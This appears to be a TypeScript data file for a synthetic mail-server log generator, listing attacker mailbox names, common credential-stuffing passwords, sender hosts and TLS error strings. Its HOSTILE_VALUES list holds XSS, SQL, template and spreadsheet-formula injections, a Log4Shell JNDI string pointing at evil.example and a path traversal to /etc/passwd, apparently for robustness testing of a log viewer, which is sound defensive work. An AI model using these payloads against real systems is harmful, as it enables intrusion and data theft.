// The words attackers and users type, most popular first (the generator picks with a Zipf-like skew).

/** Mailbox names dictionary attackers try, bare or with the domain appended. */
export const ATTACK_NAMES = [
  'admin', 'info', 'test', 'webmaster', 'sales', 'support', 'contact', 'office', 'user', 'postmaster',
  'mail', 'administrator', 'root', 'marketing', 'hr', 'billing', 'noreply', 'abuse', 'service', 'accounts',
  'finance', 'help', 'newsletter', 'jobs', 'team', 'guest', 'demo', 'backup', 'staff', 'manager',
  'director', 'reception', 'enquiries', 'hello', 'orders', 'shop', 'store', 'web', 'www', 'ftp',
  'john', 'david', 'michael', 'maria', 'anna', 'peter', 'daniel', 'robert', 'laura', 'thomas',
  'test1', 'test123', 'user1', 'admin1', 'scanner', 'printer', 'spam', 'security', 'it', 'dev',
  'ventas', 'kontakt', 'vertrieb', 'compta', 'buchhaltung', 'info1', 'mailer-daemon', 'nobody', 'oracle', 'ubuntu',
];

/** Common passwords seen in credential stuffing, most popular first. */
export const ATTACK_PASSWORDS = [
  '123456', 'password', '12345678', 'qwerty', '123456789', '12345', '1234', '111111', '1234567', 'dragon',
  '123123', 'abc123', 'admin', 'letmein', 'welcome', 'monkey', 'password1', 'Password1', 'Passw0rd', 'P@ssw0rd',
  'Summer2023!', 'Winter2023!', 'Spring2024!', 'Autumn2022', 'Welcome1', 'Welcome123', 'Qwerty123', 'qwerty123',
  '1q2w3e4r', '1qaz2wsx', 'zaq12wsx', 'iloveyou', 'sunshine', 'princess', 'football', 'baseball', 'shadow',
  'master', '666666', '888888', '000000', 'changeme', 'test', 'test123', 'admin123', 'admin@123', 'root',
  'pass', 'pass123', 'mail', 'email', 'secret', 'Delta2017', 'Alpha2019', 'Berlin2020', 'London123',
  'Aa123456', 'a123456', 'abcd1234', 'q1w2e3r4', 'asdfgh', 'zxcvbn', '7777777', '654321', '987654321',
  'Password@123', 'Admin@2024', 'Company123', 'Mail2023', 'mail123', 'hello123', 'trustno1', 'superman',
  'qwertyйцукен', 'пароль', '密码123', 'contraseña', 'motdepasse', 'passwort', 'Passwort1',
];

/** Attacker-chosen values that would break a careless viewer; only with `hostile: true`. */
export const HOSTILE_VALUES = [
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  "=cmd|' /C calc'!A0",
  "'); DROP TABLE attempt;--",
  '+1-1',
  '@SUM(1+1)',
  '-2+3',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(document.domain)</script>',
  '" OR "1"="1',
  '../../../../etc/passwd',
  '%n%n%n%n%s',
];

/** Hostile passwords may also carry commas and brackets (only the password is free text in a line). */
export const HOSTILE_PASSWORDS = [...HOSTILE_VALUES, '=HYPERLINK("http://evil.example","click")', 'a),b(c', ' leading space'];

/** The people who really use the server. */
export const USER_NAMES = [
  'alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'oscar', 'peggy',
];

/** Role mailboxes that exist (attacks on them are `Password mismatch`, not `unknown user`). */
export const ROLE_MAILBOXES = ['info', 'sales', 'support', 'postmaster', 'office'];

export const MAIL_FOLDERS = ['INBOX', 'INBOX', 'INBOX', 'INBOX', 'Junk', 'INBOX/Lists', 'Archive'];

/** Servers that deliver ordinary mail, for postfix lines around lmtp deliveries. */
export const SENDER_HOSTS: readonly [string, string][] = [
  ['mail-wr1-f41.google.com', '209.85.221.41'],
  ['mail-ej1-f52.google.com', '209.85.218.52'],
  ['mail-dm6nam12on2061.outbound.protection.outlook.com', '40.107.243.61'],
  ['mout.gmx.net', '212.227.15.19'],
  ['mout.web.de', '217.72.192.78'],
  ['mx.example.org', '198.51.100.7'],
  ['smtp.mailgun.org', '69.72.43.8'],
  ['o1.ptr2471.sendgrid.net', '149.72.125.10'],
];

export const SENDER_DOMAINS = ['gmail.com', 'outlook.com', 'gmx.de', 'web.de', 'example.org', 'newsletter.example.net'];

/** OpenSSL messages seen when scanners probe the TLS ports (2.3 and 2.4 wording). */
export const TLS_ERRORS = [
  'SSL_accept() failed: error:14209102:SSL routines:tls_early_post_process_client_hello:unsupported protocol',
  'SSL_accept() failed: error:1408F10B:SSL routines:ssl3_get_record:wrong version number',
  'SSL_accept() failed: error:0A00006C:SSL routines::bad key share',
  'SSL_accept() failed: error:0A0000C1:SSL routines::no shared cipher',
  'SSL_accept() failed: error:0A000102:SSL routines::unsupported protocol',
  'SSL_accept() syscall failed: Connection reset by peer',
  'read(size=1026) failed: Connection reset by peer',
];
